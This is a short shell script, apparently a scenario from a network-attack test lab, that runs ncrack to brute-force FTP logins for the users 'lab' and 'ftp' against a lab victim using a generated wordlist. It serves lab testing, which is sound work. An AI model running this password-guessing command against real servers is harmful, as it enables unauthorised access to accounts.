# SPDX-License-Identifier: MIT
# label: bruteforce-ftp
# source: lab-ncrack
# needs: ncrack
# seconds: 60
# Passwords for ftp by ncrack, to a neighbour.
. $lab/victims.sh

servers() {
	victim_ftp f
	words_up 60
}

scenario() {
	_limit=$(choose "" "-g CL=1" "-g CL=4")
	setting options "$_limit"
	attack b f tcp 21 -- timeout 50 ncrack $_limit --user lab,ftp -P "$work/words" -p ftp:21 \
		"$(addr f)"
}
